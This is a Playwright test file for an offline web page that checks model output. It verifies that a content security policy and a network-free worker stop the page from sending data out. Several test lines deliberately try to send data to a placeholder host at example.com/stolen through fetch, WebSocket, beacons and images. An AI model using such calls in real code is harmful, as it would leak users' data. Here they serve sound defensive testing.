import { expect, test } from '@playwright/test'

/** Tries every way that a script has to send something; gives back what got through. */
const attempts = async () => {
  const target = 'https://example.com/stolen'
  const through: string[] = []
  const tries: [string, () => unknown][] = [
    ['fetch', () => fetch(target, { mode: 'no-cors' })],
    ['fetch own origin', () => fetch(`${location.origin}/index.html`)],
    [
      'WebSocket',
      () =>
        new Promise((done, fail) => {
          const socket = new WebSocket('wss://example.com/')
          socket.onopen = done
          socket.onerror = fail
        }),
    ],
    [
      'EventSource',
      () =>
        new Promise((done, fail) => {
          const source = new EventSource(target)
          source.onopen = done
          source.onerror = fail
        }),
    ],
    [
      'XMLHttpRequest',
      () =>
        new Promise((done, fail) => {
          const request = new XMLHttpRequest()
          request.onload = done
          request.onerror = fail
          request.open('GET', target)
          request.send()
        }),
    ],
  ]
  for (const [name, attempt] of tries) {
    try {
      await attempt()
      through.push(name)
    } catch {
      // Refused: that is what is wanted.
    }
  }
  return through
}

test('the page cannot send anything', async ({ page }) => {
  await page.goto('/')
  await expect(page.getByRole('textbox', { name: 'Model output' })).toBeVisible()
  const foreign: string[] = []
  page.on('request', (request) => {
    if (!request.url().startsWith(new URL(page.url()).origin) && !request.url().startsWith('data:'))
      foreign.push(request.url())
  })
  page.on('requestfinished', (request) => {
    if (request.url().includes('example.com')) foreign.push(request.url())
  })
  const violations = page.evaluate(
    () =>
      new Promise<string[]>((done) => {
        const seen: string[] = []
        document.addEventListener('securitypolicyviolation', (event) =>
          seen.push(event.effectiveDirective),
        )
        setTimeout(() => done(seen), 1500)
      }),
  )
  expect(await page.evaluate(attempts)).toEqual([])
  await page.evaluate(() => {
    navigator.sendBeacon('https://example.com/stolen', 'x')
    const image = new Image()
    image.src = 'https://example.com/stolen.png'
  })
  const blocked = await violations
  expect(blocked).toContain('connect-src')
  expect(blocked).toContain('img-src')
  expect(foreign.filter((url) => !url.includes('example.com'))).toEqual([])
})

test('the worker has no network', async ({ page }) => {
  await page.goto('/')
  await page.getByRole('textbox', { name: 'Model output' }).fill('{"a": 1}')
  await expect(page.getByRole('status', { name: 'Verdict' })).toContainText('1')
  const worker =
    page.workers().find((candidate) => /engine/.test(candidate.url())) ?? page.workers()[0]
  expect(worker).toBeDefined()
  const left = await worker?.evaluate(() =>
    [
      'fetch',
      'XMLHttpRequest',
      'WebSocket',
      'EventSource',
      'WebTransport',
      'importScripts',
      'Worker',
      'FontFace',
      'fonts',
    ].filter((name) => Reflect.get(globalThis, name) !== undefined),
  )
  expect(left).toEqual([])
})

test('the policy comes as a header and as a meta tag', async ({ page, request }) => {
  const response = await request.get('/')
  const header = response.headers()['content-security-policy'] ?? ''
  expect(header).toContain("default-src 'none'")
  expect(header).toContain("connect-src 'none'")
  expect(header).not.toContain('unsafe-eval')
  expect(header).not.toMatch(/script-src[^;]*unsafe-inline/)
  await page.goto('/')
  const meta = await page
    .locator('meta[http-equiv="Content-Security-Policy"]')
    .getAttribute('content')
  expect(meta).toContain("connect-src 'none'")
})

test('works offline after the first visit', async ({ page, context }) => {
  await page.goto('/')
  await page.evaluate(async () => {
    await navigator.serviceWorker.ready
  })
  await page.reload()
  await expect
    .poll(() => page.evaluate(() => navigator.serviceWorker.controller !== null))
    .toBe(true)
  await context.setOffline(true)
  await page.reload()
  await page.getByRole('textbox', { name: 'Model output' }).fill('{"a": True}')
  await expect(page.getByRole('status', { name: 'Verdict' })).toContainText('1')
  await context.setOffline(false)
})

test('an address below leads to the page, online and offline', async ({ page, context }) => {
  await page.goto('/some/where#raw=linked')
  const source = page.getByRole('textbox', { name: 'Model output' })
  await expect(source).toHaveValue('linked')
  await page.evaluate(async () => {
    await navigator.serviceWorker.ready
  })
  await page.reload()
  await expect
    .poll(() => page.evaluate(() => navigator.serviceWorker.controller !== null))
    .toBe(true)
  await context.setOffline(true)
  await page.goto('/some/where/else')
  await expect(source).toBeVisible()
  expect(new URL(page.url()).pathname).toBe('/')
  await context.setOffline(false)
})

test('a newer version waits for its user, and page and draft stay as they are', async ({
  page,
}) => {
  // The page registers its worker some time after it was loaded; done later than ours, that would replace ours.
  await page.addInitScript(() => {
    const { register } = ServiceWorkerContainer.prototype
    ServiceWorkerContainer.prototype.register = async function (...rest) {
      const registration = await register.apply(this, rest)
      document.documentElement.dataset.registered = ''
      return registration
    }
  })
  await page.goto('/')
  await page.evaluate(async () => {
    await navigator.serviceWorker.ready
  })
  await page.reload()
  await page.locator('html[data-registered]').waitFor()
  // Another address of the worker is another version of it.
  const controller = await page.evaluate(async () => {
    const registration = await navigator.serviceWorker.register('./sw.js?newer')
    while (registration.waiting === null) await new Promise((done) => setTimeout(done, 50))
    return navigator.serviceWorker.controller?.scriptURL
  })
  expect(controller).toMatch(/sw\.js$/)
  const source = page.getByRole('textbox', { name: 'Model output' })
  await source.fill('a text that must not be lost')
  await expect(page.getByText('A newer version of the page is here.')).toBeVisible()
  await page.getByRole('button', { name: 'Load it' }).click()
  await expect
    .poll(() =>
      page
        .evaluate(() => navigator.serviceWorker.controller?.scriptURL)
        // The page may be on its way to the newer version at this moment.
        .catch(() => undefined),
    )
    .toMatch(/newer$/)
  await expect(source).toHaveValue('a text that must not be lost')
})
